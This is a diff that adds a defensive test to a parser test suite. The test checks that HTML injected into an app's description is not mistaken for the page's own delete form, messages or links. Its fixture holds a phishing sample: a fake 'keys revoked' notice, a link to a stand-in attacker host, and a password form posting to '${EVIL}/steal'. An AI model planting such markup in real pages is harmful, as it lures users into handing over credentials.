@@ -185,6 +185,24 @@ describe('my apps: what a developer typed into an app is not an action', () => {
     expect(as(extract({ body: 'page-apps mykeys', userNav: SIGNED_IN, main: key }), 'accountKeys').content.pagination).toBeNull();
   });
 
+  it('a form, message or link in the app’s name or description is not the delete / add-APIs page’s', () => {
+    const typed =
+      `<ul class="success"><li>Your keys were revoked</li></ul><a href="${EVIL}/confirm">Confirm here</a>` +
+      `<form method="post" action="${EVIL}/steal"><input type="password" name="pw"></form>`;
+    const app = (own: string) =>
+      '<h1 class="first">Delete Application</h1><div class="section"><div class="section-body">' +
+      `<div class="application"><h3>A</h3><dl><dt>Description</dt><dd>${typed}</dd></dl></div>${own}</div></div>`;
+    const form =
+      '<form method="post" action="/apps/delete/88"><input type="hidden" name="token" value="q1"><input type="submit" value="Delete"></form>';
+    const del = as(extract({ body: 'page-apps delete', userNav: SIGNED_IN, main: app(form) }), 'appDelete').content;
+    expect(del.form?.action).toBe('/apps/delete/88');
+    expect(del).toMatchObject({ messages: [], links: [] });
+    expect(as(extract({ body: 'page-apps delete', userNav: SIGNED_IN, main: app('') }), 'appDelete').content.form).toBeNull();
+    // the add-APIs page after its keys were issued has no form of its own
+    const issued = extract({ body: 'page-apps select', userNav: SIGNED_IN, main: app('<p>Done</p>') });
+    expect(issued.contentType).toBe('appAddAPIsSuccess');
+  });
+
   it('an a.add-app inside an app is not the page’s create-app link', () => {
     const main = `<div class="application"><h3>A <a class="add-app action" href="${EVIL}/n">n</a></h3></div>`;
     expect(as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main }), 'accountApps').content.createApp).toBeNull();
